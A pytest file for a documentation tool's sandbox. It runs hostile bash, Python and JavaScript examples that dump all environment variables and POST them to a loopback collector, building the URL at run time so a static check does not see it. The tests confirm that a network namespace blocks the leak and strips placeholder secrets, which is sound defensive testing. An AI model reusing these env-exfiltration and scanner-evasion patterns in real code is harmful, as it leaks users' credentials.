"""Examples are untrusted code: they see no real secret and can reach nothing but the recording proxy."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from branddocs.examples import sandbox
from branddocs.site import Project

from .test_example_checks import check, outcome, write_page

pytestmark = pytest.mark.slow

SECRETS = {
    "OPENAI_API_KEY": "sk-openai-secret-value-123",
    "AWS_SECRET_ACCESS_KEY": "aws-secret-value-456",
    "NEBULA_AI_API_KEY": "sk-another-tenant-789",
}

# Each example sends what it can find to a loopback port that is not the endpoint, with a URL made at run
# time (no literal URL for the static check to see), then makes its one proper request and prints the reply.
PAGE = """
# Hostile examples

```bash
port=$(cat "SEEN/port")
printf -v url 'ht%sp://127.0.0.1:%s/bash' t "$port"
curl -s -m 5 --data "$(env)" "$url" || echo "blocked" > SEEN/bash-blocked
env > SEEN/bash-env
curl -sS --fail-with-body {{ base_url }}/chat/completions -H "Authorization: Bearer ${{ api_key_env }}" \\
  -H "Content-Type: application/json" \\
  -d '{"model": "{{ default_model }}", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}'
```

```python lint="skip"
import json
import os
import urllib.request
from pathlib import Path

from openai import OpenAI

seen = Path("SEEN")
url = "ht" + "tp://127.0.0.1:" + (seen / "port").read_text() + "/python"
try:
    urllib.request.urlopen(url, data=json.dumps(dict(os.environ)).encode(), timeout=5)
except OSError:
    (seen / "python-blocked").write_text("blocked")
(seen / "python-env").write_text(json.dumps(sorted(os.environ)))
client = OpenAI(base_url="{{ base_url }}", api_key=os.environ["{{ api_key_env }}"])
reply = client.chat.completions.create(model="{{ default_model }}", messages=[{"role": "user", "content": "hi"}])
print(reply.choices[0].message.content)
#> Hi! It's nice to meet you. Is there something I can help you with or would you like to chat?
```

```javascript
import { readFileSync, writeFileSync } from 'node:fs';
import OpenAI from 'openai';

const port = readFileSync('SEEN/port', 'utf8');
try {
  await fetch(['ht', 'tp://127.0.0.1:', port, '/node'].join(''), { method: 'POST', body: JSON.stringify(process.env) });
} catch {
  writeFileSync('SEEN/node-blocked', 'blocked');
}
const client = new OpenAI({ apiKey: process.env.{{ api_key_env }}, baseURL: '{{ base_url }}' });
const completion = await client.chat.completions.create({
  model: '{{ default_model }}', messages: [{ role: 'user', content: 'hi' }], max_tokens: 2,
});
console.log(completion.choices[0].message.content);
```
"""


@pytest.fixture
def collector() -> Iterator[list[str]]:
    """A loopback server that is not the endpoint: what reaches it was exfiltrated."""
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            size = int(self.headers.get("content-length") or 0)
            received.append(f"{self.path} {self.rfile.read(size).decode(errors='replace')}")
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    received.append(f"port {server.server_address[1]}")
    yield received
    server.shutdown()
    server.server_close()


def _run(scratch: Project, seen: Path, collector: list[str], env: dict[str, str]) -> tuple[int, dict, str, Path]:
    seen.mkdir()
    (seen / "port").write_text(collector[0].split()[1])
    page = write_page(scratch, "hostile.md", PAGE.replace("SEEN", str(seen)))
    code, results, output = check(scratch, "--brand", "acme", "hostile.md", env={**SECRETS, **env})
    return code, results, output, page


@pytest.mark.skipif(not sandbox.available()[0], reason=sandbox.available()[1] or "sandbox available")
def test_examples_reach_only_the_proxy_and_see_no_secret(scratch: Project, tmp_path: Path, collector: list) -> None:
    seen = tmp_path / "seen"
    code, results, output, page = _run(scratch, seen, collector, {})
    assert "each example runs in its own network namespace" in output
    assert code == 0, output
    for marker, lang in (("printf -v url", "bash"), ("import urllib.request", "python"), ("node:fs", "javascript")):
        assert outcome(results, page, marker, lang) == "passed", output
    assert collector[1:] == [], "an example reached a loopback port that is not the endpoint"
    for lang in ("bash", "python", "node"):
        assert (seen / f"{lang}-blocked").exists(), lang
    python_env = json.loads((seen / "python-env").read_text())
    assert set(python_env) <= {"PATH", "HOME", "LANG", "ACME_CLOUD_API_KEY", "LC_CTYPE", "PWD"}, python_env
    bash_env = (seen / "bash-env").read_text()
    for name, value in SECRETS.items():
        assert name not in bash_env
        assert value not in bash_env
    assert "sk-branddocs-run-" in bash_env  # the key it sees is made for the run: worthless anywhere else


def test_without_the_namespace_the_same_examples_get_out(scratch: Project, tmp_path: Path, collector: list) -> None:
    """The negative: the test above can fail. Without the namespace, a URL made at run time gets out."""
    code, _, output, _ = _run(scratch, tmp_path / "seen", collector, {"BRANDDOCS_NO_SANDBOX": "1"})
    assert "examples run WITHOUT a network namespace" in output
    assert code == 0, output
    assert {line.split()[0] for line in collector[1:]} == {"/bash", "/python", "/node"}
    # The environment is still minimal: what got out holds no real secret.
    for value in SECRETS.values():
        assert all(value not in line for line in collector[1:])


def test_a_samples_request_to_a_foreign_address_is_never_run(scratch: Project, collector: list) -> None:
    """A sample's request is held to its own static checks: an address the brand does not own is never called."""
    port = collector[0].split()[1]
    page = write_page(
        scratch,
        "foreign.md",
        f"""
# A sample whose request calls elsewhere

```bash group="chat"
curl -sS -X POST http://127.0.0.1:{port}/v1/chat/completions -H "Authorization: Bearer ${{{{ api_key_env }}}}"
```

```json group="chat"
{{"id": "x", "object": "chat.completion", "created": 1, "model": "{{{{ default_model }}}}", "choices": []}}
```
""",
    )
    code, results, output = check(scratch, "--brand", "acme", "foreign.md")
    assert code == 1, output
    sample = outcome(results, page, '"object": "chat.completion"', "json")
    assert f"failed: calls http://127.0.0.1:{port}/v1/chat/completions, which is not Acme Cloud's base URL" in sample
    assert collector[1:] == [], "the foreign address was called"
